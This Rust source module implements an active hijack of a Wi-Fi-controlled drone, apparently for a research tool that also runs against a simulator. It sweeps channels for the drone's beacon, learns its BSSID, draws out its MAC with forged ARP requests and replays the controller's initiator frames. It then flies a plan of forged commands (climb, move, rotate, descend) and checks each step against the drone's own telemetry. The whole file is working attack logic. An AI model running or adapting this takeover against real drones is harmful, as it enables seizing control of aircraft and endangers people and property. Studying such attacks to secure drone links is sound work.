//! The active takeover: announce ourselves, lure the drone's MAC out with
//! ARP, replay the initiator, then fly the plan while checking the drone's
//! own telemetry for the expected motion.

use std::path::Path;

use serde::{Deserialize, Serialize};

use super::forge::{FrameFactory, Heard};
use super::link::{AttackLink, LinkScanner};
use super::AttackError;
use crate::framing::CommandId;
use crate::linkproto::{
    detect_beacon_channel, is_drone_beacon, parse_dot11, Dot11Frame, MacAddr, Telemetry, MIN_DWELL_MS, VALID_CHANNELS,
};
use crate::simworld::{AUTO_CHANNELS, CLIMB_RATE, HORIZONTAL_SPEED, TICK_US, YAW_RATE};

const ALL10_PLAN: &str = include_str!("../../assets/all10_plan.json");

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub enum TakeoverMode {
    /// The legitimate controller stays connected and idle.
    CoexistWithRc,
    /// The controller is switched off and the drone has dropped it.
    #[default]
    AfterRcDisconnect,
}

#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanStep {
    pub command: CommandId,
    pub duration: f64,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct HijackPlan {
    #[serde(default)]
    pub mode: TakeoverMode,
    pub steps: Vec<PlanStep>,
}

impl HijackPlan {
    /// Every control once: Ready, climb, the six directional commands,
    /// a hover, and a descent.
    pub fn all10() -> Self {
        serde_json::from_str(ALL10_PLAN).expect("bundled plan parses")
    }

    pub fn from_json(text: &str) -> Result<Self, AttackError> {
        let p: HijackPlan = serde_json::from_str(text).map_err(|e| AttackError::InvalidPlan(e.to_string()))?;
        p.validate()?;
        Ok(p)
    }

    pub fn load(path: impl AsRef<Path>) -> Result<Self, AttackError> {
        Self::from_json(&std::fs::read_to_string(path)?)
    }

    pub fn validate(&self) -> Result<(), AttackError> {
        if self.steps.is_empty() {
            return Err(AttackError::InvalidPlan("plan has no steps".into()));
        }
        for (i, s) in self.steps.iter().enumerate() {
            if !(s.duration.is_finite() && s.duration > 0.0) {
                return Err(AttackError::InvalidPlan(format!("step {i}: duration must be positive")));
            }
        }
        Ok(())
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct HijackConfig {
    /// Copies of the current control sent per tick; the drone keeps the
    /// newest, so extra copies only add loss tolerance.
    pub controls_per_tick: usize,
    pub beacon_interval_ms: u64,
    pub arp_retry_ms: u64,
    pub connect_attempts: u32,
    /// Idle time after each step before its effect is measured.
    pub settle_s: f64,
    /// Allowed error as a fraction of the expected displacement.
    pub tolerance: f64,
    /// Absolute slack for steps that should not move the drone.
    pub hold_slack: f64,
}

impl Default for HijackConfig {
    fn default() -> Self {
        HijackConfig {
            controls_per_tick: 2,
            beacon_interval_ms: 100,
            arp_retry_ms: 500,
            connect_attempts: 6,
            settle_s: 0.5,
            tolerance: 0.1,
            hold_slack: 0.05,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Default, Serialize, Deserialize)]
pub struct Delta {
    pub dx: f64,
    pub dy: f64,
    pub dz: f64,
    /// Degrees, positive clockwise.
    pub dheading: f64,
    pub props_on: bool,
}

impl Delta {
    fn translation(&self) -> f64 {
        (self.dx * self.dx + self.dy * self.dy + self.dz * self.dz).sqrt()
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct StepReport {
    pub index: usize,
    pub command: CommandId,
    pub duration: f64,
    pub expected: Delta,
    pub measured: Delta,
    pub verified: bool,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HijackReport {
    pub mode: TakeoverMode,
    pub channel: u8,
    pub attacker_mac: MacAddr,
    pub drone_mac: MacAddr,
    /// Virtual time from the start of the attack until the drone accepted us.
    pub connected_after_us: u64,
    pub steps: Vec<StepReport>,
    pub verified: usize,
}

impl HijackReport {
    pub fn all_verified(&self) -> bool {
        self.verified == self.steps.len()
    }

    /// `StepUnverified` for the first step whose effect was not observed.
    pub fn check(&self) -> Result<(), AttackError> {
        match self.steps.iter().find(|s| !s.verified) {
            Some(s) => Err(AttackError::StepUnverified(s.index)),
            None => Ok(()),
        }
    }
}

/// Channels in the order a sweep visits them: the drone's 5.8 GHz set first.
pub fn scan_order() -> Vec<u8> {
    let mut order = AUTO_CHANNELS.to_vec();
    order.extend(VALID_CHANNELS.iter().filter(|c| !AUTO_CHANNELS.contains(c)));
    order
}

#[derive(Debug, Clone, Copy, PartialEq)]
struct Pose {
    x: f64,
    y: f64,
    z: f64,
    /// Unwrapped across telemetry samples.
    heading: f64,
    props_on: bool,
}

struct Driver<'a, L: AttackLink + ?Sized> {
    link: &'a mut L,
    factory: FrameFactory,
    cfg: &'a HijackConfig,
    channel: u8,
    ticks: u64,
    next_beacon_tick: u64,
    announce: bool,
    pose: Option<Pose>,
    telemetry_seen: bool,
}

fn wrap_deg(d: f64) -> f64 {
    let w = d.rem_euclid(360.0);
    if w > 180.0 {
        w - 360.0
    } else {
        w
    }
}

fn ticks_for(secs: f64) -> u64 {
    ((secs * 1e6 / TICK_US as f64).round() as u64).max(1)
}

impl<L: AttackLink + ?Sized> Driver<'_, L> {
    fn tick(&mut self, mut frames: Vec<Vec<u8>>) -> Result<Vec<Vec<u8>>, AttackError> {
        if self.announce && self.ticks >= self.next_beacon_tick {
            let now = self.ticks * TICK_US;
            frames.insert(0, self.factory.beacon(now, self.cfg.beacon_interval_ms, self.channel));
            self.next_beacon_tick = self.ticks + ticks_for(self.cfg.beacon_interval_ms as f64 / 1000.0);
        }
        self.ticks += 1;
        let heard = self.link.tick(frames)?;
        for raw in &heard {
            if let Some(Heard::Telemetry { t, .. }) = self.factory.interpret(raw) {
                self.on_telemetry(&t);
            }
        }
        Ok(heard)
    }

    fn on_telemetry(&mut self, t: &Telemetry) {
        let heading = match self.pose {
            Some(p) => p.heading + wrap_deg(t.heading as f64 - p.heading),
            None => t.heading as f64,
        };
        self.pose = Some(Pose {
            x: t.x as f64,
            y: t.y as f64,
            z: t.z as f64,
            heading,
            props_on: t.props_on,
        });
        self.telemetry_seen = true;
    }

    fn controls(&mut self, cmd: CommandId) -> Vec<Vec<u8>> {
        (0..self.cfg.controls_per_tick.max(1))
            .map(|_| self.factory.command(cmd))
            .collect()
    }

    /// Waits for a drone beacon to learn the BSSID.
    fn find_bssid(&mut self) -> Result<(), AttackError> {
        for _ in 0..ticks_for(1.0) {
            for raw in self.tick(Vec::new())? {
                if is_drone_beacon(&raw) {
                    if let Dot11Frame::Beacon(b) = parse_dot11(&raw) {
                        self.factory.set_bssid(b.bssid);
                        return Ok(());
                    }
                }
            }
        }
        Err(AttackError::ConnectFailed("no drone beacon on the channel".into()))
    }

    fn wait_for<F: Fn(&Heard) -> bool>(
        &mut self,
        first: Vec<Vec<u8>>,
        ticks: u64,
        pred: F,
    ) -> Result<Option<Heard>, AttackError> {
        let mut frames = first;
        for _ in 0..ticks {
            let heard = self.tick(std::mem::take(&mut frames))?;
            if let Some(h) = heard.iter().filter_map(|r| self.factory.interpret(r)).find(|h| pred(h)) {
                return Ok(Some(h));
            }
        }
        Ok(None)
    }

    fn connect(&mut self) -> Result<(), AttackError> {
        self.find_bssid()?;
        self.announce = true;
        let retry = ticks_for(self.cfg.arp_retry_ms as f64 / 1000.0);
        for _ in 0..self.cfg.connect_attempts {
            let arp = vec![self.factory.arp_request()];
            let Some(Heard::ArpReply { from, .. }) =
                self.wait_for(arp, retry, |h| matches!(h, Heard::ArpReply { .. }))?
            else {
                continue;
            };
            self.factory.set_drone(from);
            let init: Vec<Vec<u8>> = (0..3).map(|_| self.factory.initiator()).collect();
            // the drone greets a new controller with a unicast burst
            if self
                .wait_for(init, retry, |h| matches!(h, Heard::ToUs { .. }))?
                .is_some()
            {
                return Ok(());
            }
        }
        Err(AttackError::ConnectFailed(format!(
            "no answer after {} ARP/initiator attempts",
            self.cfg.connect_attempts
        )))
    }

    fn hold_idle(&mut self, ticks: u64) -> Result<(), AttackError> {
        for _ in 0..ticks {
            let f = self.controls(CommandId::Idle);
            self.tick(f)?;
        }
        Ok(())
    }
}

fn expected_delta(cmd: CommandId, secs: f64, start: &Pose) -> Delta {
    let h = start.heading.to_radians();
    let (fx, fy) = (h.sin(), h.cos());
    let (rx, ry) = (h.cos(), -h.sin());
    let run = HORIZONTAL_SPEED * secs;
    let mut d = Delta {
        props_on: start.props_on,
        ..Delta::default()
    };
    match cmd {
        CommandId::Idle => {}
        CommandId::Ready => d.props_on = true,
        CommandId::FullUp => d.dz = CLIMB_RATE * secs,
        CommandId::FullDown => d.dz = -(CLIMB_RATE * secs).min(start.z),
        CommandId::FullForward => (d.dx, d.dy) = (run * fx, run * fy),
        CommandId::FullBackward => (d.dx, d.dy) = (-run * fx, -run * fy),
        CommandId::FullFlyRight => (d.dx, d.dy) = (run * rx, run * ry),
        CommandId::FullFlyLeft => (d.dx, d.dy) = (-run * rx, -run * ry),
        CommandId::FullRotateRight => d.dheading = YAW_RATE * secs,
        CommandId::FullRotateLeft => d.dheading = -YAW_RATE * secs,
    }
    d
}

fn verify(cmd: CommandId, expected: &Delta, measured: &Delta, cfg: &HijackConfig) -> bool {
    let move_err = Delta {
        dx: measured.dx - expected.dx,
        dy: measured.dy - expected.dy,
        dz: measured.dz - expected.dz,
        ..Delta::default()
    }
    .translation();
    let yaw_err = (measured.dheading - expected.dheading).abs();
    match cmd {
        CommandId::Idle => move_err <= cfg.hold_slack && yaw_err <= cfg.hold_slack,
        CommandId::Ready => measured.props_on && move_err <= cfg.hold_slack,
        CommandId::FullRotateLeft | CommandId::FullRotateRight => {
            yaw_err <= cfg.tolerance * expected.dheading.abs() && move_err <= cfg.hold_slack
        }
        _ => {
            let span = expected.translation();
            span > 0.0 && move_err <= cfg.tolerance * span && yaw_err <= cfg.hold_slack
        }
    }
}

/// Takes over the drone and flies `plan`. With `channel` unset the driver
/// first sweeps for the drone's beacon. Each step's effect is measured from
/// the drone's telemetry after a short settle; unverified steps are
/// reported, not fatal (see [`HijackReport::check`]).
pub fn hijack<L: AttackLink + ?Sized>(
    link: &mut L,
    factory: FrameFactory,
    plan: &HijackPlan,
    channel: Option<u8>,
    cfg: &HijackConfig,
) -> Result<HijackReport, AttackError> {
    plan.validate()?;
    let channel = match channel {
        Some(c) => {
            link.tune(c)?;
            c
        }
        None => {
            let mut scanner = LinkScanner {
                link: &mut *link,
                error: None,
            };
            let found = detect_beacon_channel(&mut scanner, &scan_order(), MIN_DWELL_MS);
            if let Some(e) = scanner.error {
                return Err(e);
            }
            let c = found?;
            link.tune(c)?;
            c
        }
    };
    let mut d = Driver {
        link,
        factory,
        cfg,
        channel,
        ticks: 0,
        next_beacon_tick: 0,
        announce: false,
        pose: None,
        telemetry_seen: false,
    };
    d.connect()?;
    let connected_after_us = d.ticks * TICK_US;
    // telemetry gives the starting pose
    for _ in 0..ticks_for(1.0) {
        if d.pose.is_some() {
            break;
        }
        d.hold_idle(1)?;
    }
    if d.pose.is_none() {
        return Err(AttackError::ConnectFailed("connected but no telemetry".into()));
    }
    d.hold_idle(ticks_for(cfg.settle_s))?;

    let mut steps = Vec::with_capacity(plan.steps.len());
    for (index, step) in plan.steps.iter().enumerate() {
        let start = d.pose.expect("pose known");
        let n = ticks_for(step.duration);
        d.telemetry_seen = false;
        for _ in 0..n {
            let f = d.controls(step.command);
            d.tick(f)?;
        }
        d.hold_idle(ticks_for(cfg.settle_s))?;
        let end = d.pose.expect("pose known");
        let secs = (n * TICK_US) as f64 / 1e6;
        let expected = expected_delta(step.command, secs, &start);
        let measured = Delta {
            dx: end.x - start.x,
            dy: end.y - start.y,
            dz: end.z - start.z,
            dheading: end.heading - start.heading,
            props_on: end.props_on,
        };
        let verified = d.telemetry_seen && verify(step.command, &expected, &measured, cfg);
        steps.push(StepReport {
            index,
            command: step.command,
            duration: step.duration,
            expected,
            measured,
            verified,
        });
    }
    let verified = steps.iter().filter(|s| s.verified).count();
    Ok(HijackReport {
        mode: plan.mode,
        channel,
        attacker_mac: d.factory.mac(),
        drone_mac: d.factory.drone_mac().expect("connected"),
        connected_after_us,
        steps,
        verified,
    })
}
